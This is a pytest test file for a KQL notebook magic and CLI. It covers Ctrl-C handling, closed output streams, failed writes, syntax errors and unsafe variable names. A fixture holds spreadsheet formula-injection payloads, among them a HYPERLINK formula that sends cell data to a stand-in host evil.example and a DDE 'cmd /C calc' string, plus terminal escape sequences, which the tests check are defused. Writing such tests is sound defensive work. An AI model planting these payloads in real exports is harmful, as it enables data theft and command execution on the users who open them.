"""The CLI and the magics at their edges, as a careless colleague or an attacker's data would meet them:
Ctrl-C, closed standard streams, a write that fails half way, spreadsheet formulas and terminal escape
sequences in the rows, variable names that would break the kernel, tables with no columns."""

from __future__ import annotations

import os
import resource
import signal
import subprocess
import sys
import time

import pandas as pd
import pytest

#: A query DuckDB works on for minutes: a 1e9-row cross product.
SLOW = ("range a from 1 to 40000 step 1 | extend k = 1 "
        "| join kind=inner (range b from 1 to 40000 step 1 | extend k = 1) on k | summarize dcount(a * b)")


def _cli(*args: str, preexec=None, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "kqlmagic_plus.cli", *args], capture_output=True, text=True,
                          timeout=timeout, preexec_fn=preexec)


def test_ctrl_c_says_cancelled_and_exits_130_at_once():
    # SIGINT as a terminal sends it; the child must not inherit an ignored SIGINT from a background shell.
    proc = subprocess.Popen([sys.executable, "-m", "kqlmagic_plus.cli", "query", SLOW], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True,
                            preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    try:
        _wait_for_cpu(proc.pid, 3.0)  # past interpreter start and imports: well inside the join
        sent = time.monotonic()
        proc.send_signal(signal.SIGINT)
        out, err = proc.communicate(timeout=60)
        took = time.monotonic() - sent
    finally:
        proc.kill()
    assert proc.returncode == 130, err
    assert "cancelled" in err.lower() and "RuntimeError" not in err and "Traceback" not in err
    assert out == ""
    assert took < 3, f"the query ran on {took:.1f} s after Ctrl-C"


def _wait_for_cpu(pid: int, seconds: float, limit: float = 60) -> None:
    """Until process *pid* has used *seconds* of CPU (a fixed sleep is too short on a loaded machine)."""
    tick = os.sysconf("SC_CLK_TCK")
    end = time.monotonic() + limit
    while time.monotonic() < end:
        with open(f"/proc/{pid}/stat") as fh:
            fields = fh.read().rsplit(")", 1)[1].split()
        if (int(fields[11]) + int(fields[12])) / tick >= seconds:  # utime + stime
            return
        time.sleep(0.1)
    raise AssertionError(f"the query process used less than {seconds} s of CPU in {limit} s")


def test_closed_stdout_is_one_line_on_stderr():
    proc = _cli("query", "print x = 1", preexec=lambda: os.close(1))
    assert proc.returncode == 2
    assert proc.stderr.strip() == "Option error: standard output is closed: write the rows to a file with -o FILE"


def test_closed_stderr_still_gives_the_exit_code_and_the_rows():
    bad = _cli("query", "print x = ", preexec=lambda: os.close(2))
    assert bad.returncode == 1 and bad.stdout == ""
    good = _cli("query", "--format", "csv", "print x = 1", preexec=lambda: os.close(2))
    assert good.returncode == 0 and good.stdout == "x\n1\n"


def test_closed_stdout_and_stderr_give_exit_codes_only(tmp_path):
    def close_both():
        os.close(1)
        os.close(2)

    assert _cli("query", "print x = 1", preexec=close_both).returncode == 2
    out = tmp_path / "rows.json"
    ok = _cli("query", "--format", "json", "-o", str(out), "print x = 1", preexec=close_both)
    assert ok.returncode == 0 and '"x": 1' in out.read_text()


def test_a_write_that_fails_leaves_the_previous_file_whole(tmp_path):
    out = tmp_path / "rows.csv"
    out.write_text("the previous export\n")

    def small_files():  # a full disk, as the kernel tells a writer: EFBIG past 64 KiB
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (64 * 1024, 64 * 1024))

    proc = _cli("query", "--format", "csv", "-o", str(out), "range x from 1 to 200000 step 1", preexec=small_files)
    assert proc.returncode == 2
    assert proc.stderr.startswith(f"Option error: cannot write '{out}'")
    assert out.read_text() == "the previous export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["rows.csv"]  # no temporary file left behind

    ok = _cli("query", "--format", "csv", "-o", str(out), "range x from 1 to 3 step 1")
    assert ok.returncode == 0 and out.read_text() == "x\n1\n2\n3\n"
    assert oct(out.stat().st_mode & 0o777) == oct(0o666 & ~_umask())


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


@pytest.fixture
def hostile(tmp_path):
    df = pd.DataFrame({
        "Cell": ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                 "\tTAB", "plain", "\x1b[2J\x1b[31mRED"],
        "Bytes": [1, -2, 3, 4, 5, 6, 7],
    })
    path = tmp_path / "hostile.parquet"
    df.to_parquet(path)
    return path


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(hostile):
    proc = _cli("query", "--mount", f"T={hostile}", "--format", "csv", "T")
    assert proc.returncode == 0, proc.stderr
    lines = proc.stdout.splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(")
    assert lines[2] == "'+cmd|' /C calc'!A0,-2"  # the negative number stays a number
    assert lines[3] == "'-2+3,3" and lines[4] == "'@SUM(A1),4"
    assert lines[5] == "'\tTAB,5" and lines[6] == "plain,6"
    raw = _cli("query", "--mount", f"T={hostile}", "--format", "csv", "--keep-formulas", "T")
    assert raw.stdout.splitlines()[1].startswith('"=HYPERLINK(')


def test_table_output_shows_escape_sequences_instead_of_sending_them(hostile):
    proc = _cli("query", "--mount", f"T={hostile}", "T")
    assert proc.returncode == 0, proc.stderr
    assert "\x1b" not in proc.stdout and "\t" not in proc.stdout
    assert "\\x1b[2J\\x1b[31mRED" in proc.stdout and "\\tTAB" in proc.stdout


def test_cli_syntax_error_shows_the_line_and_a_caret():
    proc = _cli("query", "SigninLogs\n| where ResultType == == 0")
    assert proc.returncode == 1
    lines = proc.stderr.splitlines()
    assert lines[0].startswith("KQL syntax error:") and "line 2, column" in lines[0]
    assert lines[1] == "2 | | where ResultType == == 0"
    assert lines[2].index("^") == len("2 | | where ResultType == ")


@pytest.mark.parametrize("name", ["__builtins__", "print", "len", "In", "Out", "_", "get_ipython", "class",
                                  "match", "x-y", "__name__"])
def test_out_refuses_names_the_notebook_needs(run_cell, ip, name):
    before = ip.user_ns.get(name, "<absent>")
    _, err, _ = run_cell(f"%kql -o {name} print x = 1")
    assert err is not None and "-o/--out" in str(err)
    assert ip.user_ns.get(name, "<absent>") is before
    _, err, _ = run_cell("%kql -o hits print x = 1")
    assert err is None and ip.user_ns["hits"].df["x"].tolist() == [1]


def test_sparkhunt_out_is_checked_before_the_cell_runs(run_cell):
    _, err, _ = run_cell("%%sparkhunt -o __builtins__ --sql\nSELECT 1")
    assert err is not None and "-o/--out" in str(err)
    _, err, _ = run_cell("%sparkhunt beacon --lake /nonexistent -o print")
    assert err is not None and "-o/--out" in str(err)


@pytest.mark.parametrize("frame", [pd.DataFrame(), pd.DataFrame(index=range(3))], ids=["empty", "rows-only"])
def test_a_dataframe_with_no_columns_is_a_one_line_error(frame):
    import kqlmagic_plus as kp
    from kqlmagic_plus.errors import KqlMagicPlusError

    with pytest.raises(KqlMagicPlusError) as info:
        kp.kql("T | count", namespace={"T": frame})
    assert str(info.value).startswith("table 'T' has no columns")
    assert kp.kql("print n = 1").df["n"].tolist() == [1]  # the engine is still usable
